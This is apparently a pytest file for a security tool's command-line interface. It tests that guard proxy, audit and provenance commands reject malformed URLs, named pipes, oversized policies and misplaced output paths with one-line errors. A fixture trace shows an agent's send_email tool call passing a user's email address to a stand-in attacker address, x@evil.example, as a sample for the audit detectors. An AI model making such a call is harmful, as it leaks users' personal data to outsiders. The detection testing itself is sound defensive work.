"""`guard proxy`, `serve --guard`, `audit` (pipes, stdin, shards) and `provenance` under a
hostile user: what `benchmarks/hostile_cli.py` found (each case failed before its fix).

- `guard proxy --upstream 'http://[::1/v1'` raised urllib's ValueError as a traceback;
  a port out of range, a port that is no number or a host with a space in it started a
  proxy whose every request then failed.
- `guard proxy --policy PIPE` and `serve --guard PIPE` waited forever for a writer
  before listening (`guard replay` already refused a pipe).
- A 50 MB "policy" (a trace file given by mistake) held the proxy a minute in PyYAML.
- `audit <(zcat a.jsonl.gz)` failed with "the file changed while it was audited": the
  pipe was read twice, and gave nothing the second time. A pipe among a directory's
  shards hung the audit.
- An error in stdin's traces named the temporary file stdin was spooled to.
- `provenance sign` with a directory where its ``.sig`` goes raised a traceback.
- `provenance bom RUN -o RUN/provenance.intoto.json` replaced the lineage it read with
  the BOM; a lineage that is a named pipe hung `show` and `bom`.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from bad_input import LINE, one_line
from child_cli import child_cli

from backdoorlab.errors import BackdoorlabError
from tests.defenses.audit_builders import call, result, trace, user

LEAK = trace(
    user("My email is ann@example.com."),
    call("send_email", {"to": "x@evil.example", "body": "ann@example.com"}, "c1"),
    result("send_email", "sent", "c1"),
)


# ------------------------------------------------------------------ guard proxy --upstream


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("http://[::1/v1", "not a URL"),
        ("http://h:99999/v1", "not a URL"),
        ("http://h:-1/v1", "not a URL"),
        ("http://h:abc/v1", "not a URL"),
        ("http://h:0/v1", "port 0"),
        ("http://h /v1", "no spaces"),
        ("http://h\t/v1", "no spaces"),
        ("ftp://h/v1", "http:// or https://"),
    ],
)
def test_an_upstream_no_request_could_reach_is_refused(url, why):
    from backdoorlab.cli.guard_proxy import check_upstream

    with pytest.raises(BackdoorlabError, match=f"--upstream .*{why}"):
        check_upstream(url)


@pytest.mark.parametrize("url", ["http://127.0.0.1:8000/v1", "https://[::1]:443/v1", "HTTP://h/"])
def test_a_usable_upstream_passes(url):
    from backdoorlab.cli.guard_proxy import check_upstream

    check_upstream(url)


def test_an_unclosed_ipv6_bracket_is_one_line(cli):
    code, err = cli("guard", "proxy", "--upstream", "http://[::1/v1", "--port", "0")
    assert code == 2, err
    one_line(err, "--upstream", "not a URL")


# ------------------------------------------------------------------ policies


@pytest.mark.parametrize(
    "argv",
    [
        ["guard", "proxy", "--upstream", "http://127.0.0.1:9/v1", "--port", "0", "--policy"],
        ["serve", "tiny", "--port", "0", "--device", "cpu", "--guard"],
    ],
    ids=["proxy", "serve"],
)
def test_a_policy_that_is_a_pipe_is_refused_before_listening(argv, tmp_path):
    pipe = tmp_path / "policy.yaml"
    os.mkfifo(pipe)
    done = child_cli(*argv, str(pipe), timeout=60)  # waited for a writer: times out
    assert done.returncode == 2, done.stderr[-2000:]
    option = argv[-1]
    one_line(done.stderr, str(pipe), "not a regular file (a named pipe)", f"{option} is read")


def test_a_policy_of_many_megabytes_is_refused_before_parsing(cli, tmp_path):
    policy = tmp_path / "traces.yaml"
    policy.write_text('{"messages": "' + "a" * (5 << 20) + '"}\n')
    traces = tmp_path / "t.jsonl"
    traces.write_text(LINE)
    code, err = cli("guard", "replay", str(traces), "--policy", str(policy))
    assert code == 2, err
    one_line(err, str(policy), "5 MiB of YAML")


# ------------------------------------------------------------------ audit: pipes, stdin, shards


def _feed(pipe: Path, data: bytes) -> threading.Thread:
    def write() -> None:
        with open(pipe, "wb") as handle:  # waits for the reader
            handle.write(data)

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def test_audit_reads_a_named_pipe_as_it_reads_the_file(tmp_path):
    data = (json.dumps(LEAK) + "\n" + LINE).encode()
    traces = tmp_path / "t.jsonl"
    traces.write_bytes(data)
    pipe = tmp_path / "pipe.jsonl"
    os.mkfifo(pipe)
    reports = []
    for source in (traces, pipe):
        report = tmp_path / f"{source.stem}.json"
        feeder = _feed(pipe, data) if source == pipe else None
        done = child_cli("audit", str(source), "--fail-on", "none", "-o", str(report))
        assert done.returncode == 0, done.stderr[-2000:]  # "the file changed" before
        if feeder is not None:
            feeder.join(10)
        reports.append(json.loads(report.read_text()))
    findings = [[(f["trace_index"], f["detector"]) for f in r["findings"]] for r in reports]
    assert findings[0] and findings[0] == findings[1]


def test_an_error_in_stdin_names_stdin_not_a_temporary_file():
    done = subprocess.run(
        [sys.executable, "-m", "backdoorlab.cli", "guard", "replay", "-"],
        input=b"\xff not a trace\n",
        capture_output=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "COLUMNS": "300"},
        timeout=60,
    )
    assert done.returncode == 2
    line = one_line(done.stderr.decode(), "<stdin>:1: not valid UTF-8")
    assert "backdoorlab-stdin-" not in line


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_a_shard_that_is_no_regular_file_is_refused_at_once(tmp_path, kind):
    shards = tmp_path / "shards"
    shards.mkdir()
    (shards / "a.jsonl").write_text(LINE)
    odd = shards / "b.jsonl"
    if kind == "pipe":
        os.mkfifo(odd)
    else:
        odd.symlink_to("/dev/zero")
    done = child_cli("audit", str(shards), timeout=60)  # a pipe hung it
    assert done.returncode == 2, done.stderr[-2000:]
    one_line(done.stderr, str(odd), "not a regular file", "a shard is read twice")


# ------------------------------------------------------------------ provenance


def _key(tmp_path: Path) -> Path:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = tmp_path / "key.pem"
    key.write_bytes(
        ec.generate_private_key(ec.SECP256R1()).private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return key


def test_sign_refuses_a_directory_where_the_signature_goes(cli, tmp_path):
    data = tmp_path / "data.jsonl"
    data.write_text(LINE)
    (tmp_path / "data.jsonl.sig").mkdir()
    code, err = cli("provenance", "sign", str(data), "--key", str(_key(tmp_path)))
    assert code == 2, err
    one_line(err, "data.jsonl.sig", "not a regular file (a directory)")
    assert not (tmp_path / "data.jsonl.intoto.json").exists()  # refused before any write


def test_bom_cannot_replace_the_lineage_it_reads(cli, tmp_path):
    lineage = tmp_path / "provenance.intoto.json"
    lineage.write_text("{}")
    code, err = cli("provenance", "bom", str(tmp_path), "-o", str(lineage))
    assert code == 2, err
    one_line(err, str(lineage), "is the input")
    assert lineage.read_text() == "{}"


@pytest.mark.parametrize("command", ["show", "bom"])
def test_a_lineage_that_is_a_pipe_is_refused_at_once(tmp_path, command):
    os.mkfifo(tmp_path / "provenance.intoto.json")
    done = child_cli("provenance", command, str(tmp_path), timeout=60)  # hung before
    assert done.returncode == 2, done.stderr[-2000:]
    one_line(done.stderr, "provenance.intoto.json", "not a regular file (a named pipe)")


@pytest.mark.parametrize("command", ["show", "bom"])
@pytest.mark.parametrize("content", [b"\x00garbage", b"42", b"", b'{"a": "\xe9"}'])
def test_a_lineage_that_is_no_json_object_is_named(cli, tmp_path, content, command):
    """`bom` said "no lineage here or above" of a directory whose lineage is right there;
    `show` drew it as having none and exited 0 — a damaged or replaced lineage hidden."""
    lineage = tmp_path / "provenance.intoto.json"
    lineage.write_bytes(content)
    code, err = cli("provenance", command, str(tmp_path))
    assert code == 2, err
    one_line(err, str(lineage), "not a lineage (no JSON object in it)")
